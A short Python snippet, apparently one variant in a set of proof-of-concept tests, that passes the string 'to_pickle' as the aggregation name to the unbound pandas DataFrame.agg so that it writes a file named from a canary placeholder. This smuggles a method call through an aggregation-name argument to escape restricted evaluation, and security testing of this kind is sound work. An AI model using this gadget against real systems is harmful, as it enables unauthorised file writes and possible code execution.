# (b) the unbound method: DataFrame.agg(df, NAME, axis, path)
import pandas as pd

df = pd.DataFrame({"a": [1.0]})
pd.DataFrame.agg(df, "to_pickle", 0, "{CANARY}.pwned.pkl")
